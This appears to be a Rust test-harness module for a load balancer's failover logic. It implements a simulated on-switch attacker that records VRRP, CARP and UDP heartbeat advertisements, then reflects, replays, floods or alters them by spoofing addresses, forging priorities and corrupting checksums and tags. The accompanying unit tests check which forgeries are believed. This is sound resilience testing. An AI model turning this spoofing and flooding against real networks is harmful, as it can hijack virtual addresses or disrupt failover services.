//! Somebody on the switch of a pair who records what the two machines say to each other and sends it again: reflected, late,
//! a hundredfold, damaged or changed. Heartbeats of lb (UDP) are given another source and the victim's address, so that no
//! kernel drops them; packets of protocol 112 go as they are, to the group.

use std::{
    net::Ipv4Addr,
    sync::{
        Arc, Mutex, PoisonError,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};

use super::{raw::RawSocket, topology::Net, wait::let_pass};

/// The port of heartbeats.
const HEARTBEATS: u16 = 3780;
const UDP: u8 = 17;
const VRRP_AND_CARP: u8 = 112;
const ETHERNET: usize = 14;
const IPV4: usize = 20;
/// Header of a heartbeat, and of one entry of it.
const HEARTBEAT: usize = 48;
const ENTRY: usize = 16;
/// Where the attacker says he is.
const OWN: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 99);
const OWN_MAC: [u8; 6] = [2, 0, 0, 0, 0, 0x99];
/// Between two looks.
const GLANCE: Duration = Duration::from_micros(400);
/// What is sent at 1,000 a second.
const FLOOD: Duration = Duration::from_millis(1);
/// Frames that wait to be sent; a storm that cannot be sent is dropped, as by a switch.
const QUEUE: usize = 4_096;

/// What he does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Counts.
    Watch,
    /// Sends every advertisement to both machines so many times, so long after.
    Reflect {
        /// How many times.
        copies: u32,
        /// After how long.
        delay: Duration,
    },
    /// Sends the last advertisement of the first machine to both once in that time, whatever becomes of that machine.
    Replay(Duration),
    /// Sends what was recorded last, changed, to both machines 1,000 times a second.
    Flood(Change),
}

/// What he changes; what covers it is made good where that needs no key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Change {
    /// One byte, and nothing is made good.
    Checksum,
    /// The last byte: authentication where there is some.
    Tag,
    /// The TTL is 254.
    Ttl,
    /// The priority, in turn 255 and 0 (CARP: the best and the worst interval).
    Priority,
}

/// At work until it is dropped.
#[derive(Debug)]
pub struct Attacker {
    stop: Arc<AtomicBool>,
    heard: Arc<Mutex<Vec<Heard>>>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

/// An advertisement that he heard.
#[derive(Clone, Debug)]
pub struct Heard {
    /// When.
    pub at: Instant,
    /// Of the first machine, or of the second: 0 or 1.
    pub machine: usize,
    /// What stands behind UDP's or IP's header.
    pub payload: Vec<u8>,
}

impl Attacker {
    /// Begins, on the first network of a pair.
    ///
    /// # Errors
    /// Without a second machine.
    pub fn start(net: &Net, attack: Attack) -> Result<Self> {
        let second = net.second.as_ref().context("a network without a second machine")?;
        let mut victims = Vec::new();
        for (host, port) in [(&net.balancer, "lb.eth0"), (second, "lb2.eth0")] {
            let socket = net.switch().run(|| RawSocket::open(port, GLANCE))?;
            socket.ignore_outgoing()?;
            victims.push(Victim { socket, address: host.v4, mac: parse_mac(&host.mac("eth0")?)?, last: None });
        }
        let (stop, heard, sent) = (Arc::default(), Arc::default(), Arc::default());
        let mut work = Work {
            victims,
            attack,
            queue: Vec::new(),
            heard: Arc::clone(&heard),
            sent: Arc::clone(&sent),
            next: Instant::now(),
            turn: 0,
        };
        let stopped: Arc<AtomicBool> = Arc::clone(&stop);
        let thread = net.switch().spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                work.step();
                let_pass(GLANCE);
            }
        })?;
        Ok(Self { stop, heard, sent, thread: Some(thread) })
    }

    /// What the machines said since then.
    pub fn heard_since(&self, start: Instant) -> Vec<Heard> {
        let heard = self.heard.lock().unwrap_or_else(PoisonError::into_inner);
        heard.iter().filter(|heard| heard.at >= start).cloned().collect()
    }

    /// Frames that he sent.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // A panic was reported by the thread itself.
            let _ = thread.join();
        }
    }
}

struct Victim {
    socket: RawSocket,
    address: Ipv4Addr,
    mac: [u8; 6],
    /// Its last advertisement.
    last: Option<Vec<u8>>,
}

struct Work {
    victims: Vec<Victim>,
    attack: Attack,
    queue: Vec<(Instant, Vec<u8>)>,
    heard: Arc<Mutex<Vec<Heard>>>,
    sent: Arc<AtomicU64>,
    /// When the next one of a flood or replay is due.
    next: Instant,
    turn: usize,
}

impl Work {
    fn step(&mut self) {
        let mut buffer = [0; 2048];
        for machine in 0..self.victims.len() {
            // A port that is down says so at every look.
            while let Ok(Some(frame)) = self.victims[machine].socket.try_receive(&mut buffer) {
                if let Some(start) = payload(frame) {
                    let (frame, said) = (frame.to_vec(), frame[start..].to_vec());
                    self.note(machine, frame, said);
                }
            }
        }
        let now = Instant::now();
        match self.attack {
            Attack::Watch | Attack::Reflect { .. } => {}
            Attack::Replay(every) if now >= self.next => {
                self.next = now + every;
                if let Some(frame) = self.victims[0].last.clone() {
                    self.send_to_both(&frame);
                }
            }
            Attack::Flood(change) => {
                while self.next <= now {
                    self.next = (self.next + FLOOD).max(now - FLOOD * 16);
                    self.turn += 1;
                    let Some(frame) = self.victims[self.turn % 2].last.as_ref().or(self.victims[0].last.as_ref())
                    else {
                        break;
                    };
                    let frame = changed(frame, change, self.turn / 2);
                    self.send_to_both(&frame);
                }
            }
            Attack::Replay(_) => {}
        }
        let (due, waiting) = std::mem::take(&mut self.queue).into_iter().partition(|(due, _)| *due <= now);
        self.queue = waiting;
        let due: Vec<(Instant, Vec<u8>)> = due;
        for (_, frame) in due {
            self.send_to_both(&frame);
        }
    }

    fn note(&mut self, machine: usize, frame: Vec<u8>, payload: Vec<u8>) {
        let heard = Heard { at: Instant::now(), machine, payload };
        self.heard.lock().unwrap_or_else(PoisonError::into_inner).push(heard);
        if let Attack::Reflect { copies, delay } = self.attack {
            let room = QUEUE.saturating_sub(self.queue.len());
            let due = Instant::now() + delay;
            self.queue.extend((0..copies).take(room).map(|_| (due, frame.clone())));
        }
        self.victims[machine].last = Some(frame);
    }

    fn send_to_both(&self, frame: &[u8]) {
        for victim in &self.victims {
            let frame = if frame[ETHERNET + 9] == UDP { addressed(frame, victim) } else { frame.to_vec() };
            // A full queue or a port that is down: as for any frame.
            if victim.socket.send(&frame).is_ok() {
                self.sent.fetch_add(1, Ordering::Relaxed);
            }
        }
    }
}

/// Where in a frame what a machine advertises begins; `None`: it is none of that.
fn payload(frame: &[u8]) -> Option<usize> {
    let is_ipv4 = frame.get(12..14)? == [8, 0] && *frame.get(ETHERNET)? == 0x45;
    let l4 = ETHERNET + IPV4;
    match *frame.get(ETHERNET + 9)? {
        VRRP_AND_CARP if is_ipv4 => Some(l4),
        UDP if is_ipv4 && frame.get(l4 + 2..l4 + 4)? == HEARTBEATS.to_be_bytes() => Some(l4 + 8),
        _ => None,
    }
}

/// A heartbeat, from the attacker to a victim.
fn addressed(frame: &[u8], victim: &Victim) -> Vec<u8> {
    let mut frame = frame.to_vec();
    frame[..6].copy_from_slice(&victim.mac);
    frame[6..12].copy_from_slice(&OWN_MAC);
    frame[ETHERNET + 12..ETHERNET + 16].copy_from_slice(&OWN.octets());
    frame[ETHERNET + 16..ETHERNET + 20].copy_from_slice(&victim.address.octets());
    sign_header(&mut frame);
    let checksum = ETHERNET + IPV4 + 6;
    // "None" stays so; a wrong one is to stay wrong.
    if frame[checksum..checksum + 2] != WRONG {
        frame[checksum..checksum + 2].fill(0);
    }
    frame
}

/// What stands for a checksum that is not to be made good.
const WRONG: [u8; 2] = [0xde, 0xad];

fn sign_header(frame: &mut [u8]) {
    frame[ETHERNET + 10..ETHERNET + 12].fill(0);
    let sum = !fold(frame[ETHERNET..ETHERNET + IPV4].chunks(2).map(word).sum());
    frame[ETHERNET + 10..ETHERNET + 12].copy_from_slice(&sum.to_be_bytes());
}

fn word(pair: &[u8]) -> u32 {
    u32::from(u16::from_be_bytes([pair[0], pair[1]]))
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum as u16
}

/// The same frame with a change; `turn` counts them.
fn changed(frame: &[u8], change: Change, turn: usize) -> Vec<u8> {
    let mut frame = frame.to_vec();
    let Some(start) = payload(&frame) else { return frame };
    let is_udp = frame[ETHERNET + 9] == UDP;
    let end = ETHERNET + usize::from(u16::from_be_bytes([frame[ETHERNET + 2], frame[ETHERNET + 3]]));
    match change {
        Change::Checksum => {
            frame[start + 2] ^= 0x55;
            if is_udp {
                frame[start - 2..start].copy_from_slice(&WRONG);
            }
        }
        Change::Tag => set(&mut frame, start, end - 1, |byte| byte ^ 0x55),
        Change::Ttl => {
            frame[ETHERNET + 8] = 254;
            sign_header(&mut frame);
        }
        Change::Priority => {
            let (best, is_carp) = (turn.is_multiple_of(2), frame[start] == 0x21 && frame[start + 3] == 7);
            let priority = if best != is_carp { 255 } else { 0 };
            if !is_udp {
                set(&mut frame, start, start + 2, |_| priority);
                return frame;
            }
            let first = start + HEARTBEAT + usize::from(frame[start + 40]) * ENTRY;
            for group in 0..usize::from(frame[start + 43]) {
                frame[first + group * ENTRY + 5] = priority;
            }
        }
    }
    frame
}

/// Changes a byte, and by as much the checksum of protocol 112 (RFC 1624), whatever it covers beside.
fn set(frame: &mut [u8], start: usize, at: usize, value: impl FnOnce(u8) -> u8) {
    let pair = at - (at - start) % 2;
    let before = word(&frame[pair..pair + 2]);
    frame[at] = value(frame[at]);
    if frame[ETHERNET + 9] == VRRP_AND_CARP {
        let (after, sum) = (word(&frame[pair..pair + 2]), word(&frame[start + 6..start + 8]));
        let sum = !fold((!sum & 0xffff) + (!before & 0xffff) + after);
        frame[start + 6..start + 8].copy_from_slice(&sum.to_be_bytes());
    }
}

fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> = text.split(':').map(|byte| u8::from_str_radix(byte, 16)).collect::<Result<_, _>>()?;
    bytes.try_into().ok().with_context(|| format!("{text:?} is no MAC address"))
}

#[cfg(test)]
mod tests {
    use lb::failover::{
        carp,
        vrrp::{Advertisement, Checksum, GROUP4, Version},
    };

    use super::*;

    fn frame(protocol: u8, body: &[u8]) -> Vec<u8> {
        let mut frame = vec![0; ETHERNET + IPV4];
        frame[12] = 8;
        frame[ETHERNET] = 0x45;
        frame[ETHERNET + 2..ETHERNET + 4].copy_from_slice(&((IPV4 + body.len()) as u16).to_be_bytes());
        (frame[ETHERNET + 8], frame[ETHERNET + 9]) = (255, protocol);
        frame.extend(body);
        frame
    }

    #[test]
    fn a_forged_priority_is_believed_where_there_is_no_key() {
        let source = "10.1.0.2".parse().unwrap();
        let mut body = Vec::new();
        let interval = Duration::from_millis(100);
        let addresses = vec!["10.1.1.1".parse().unwrap()];
        Advertisement { version: Version::V3, vrid: 42, priority: 100, interval, addresses }.write(
            source,
            GROUP4.into(),
            Checksum::PseudoHeader,
            &mut body,
        );
        let recorded = frame(VRRP_AND_CARP, &body);
        let read = |frame: &[u8]| Advertisement::read(&frame[ETHERNET + IPV4..], source, GROUP4.into(), 255);
        for (turn, priority) in [(0, 255), (1, 0), (2, 255)] {
            assert_eq!(read(&changed(&recorded, Change::Priority, turn)).unwrap().priority, priority);
        }
        assert!(read(&changed(&recorded, Change::Checksum, 0)).is_err());
        assert_eq!(changed(&recorded, Change::Ttl, 0)[ETHERNET + 8], 254);
    }

    #[test]
    fn a_changed_tag_is_good_but_for_the_tag() {
        let key = carp::Key::new(b"secret", 42, &["10.1.1.1".parse().unwrap()]);
        let mut body = Vec::new();
        carp::Advertisement { vhid: 42, advbase: 1, advskew: 0, demotion: 0, counter: 9 }.write(&key, &mut body);
        let recorded = frame(VRRP_AND_CARP, &body);
        let read = |frame: &[u8]| carp::Advertisement::read(&frame[ETHERNET + IPV4..], 255, |_| Some(&key));
        assert!(read(&recorded).is_ok());
        assert_eq!(read(&changed(&recorded, Change::Tag, 0)), Err(carp::Malformed::Forged));
        assert_eq!(read(&changed(&recorded, Change::Checksum, 0)), Err(carp::Malformed::Checksum));
        assert_eq!(read(&changed(&recorded, Change::Priority, 1)).unwrap().unwrap().advskew, 255);
    }
}
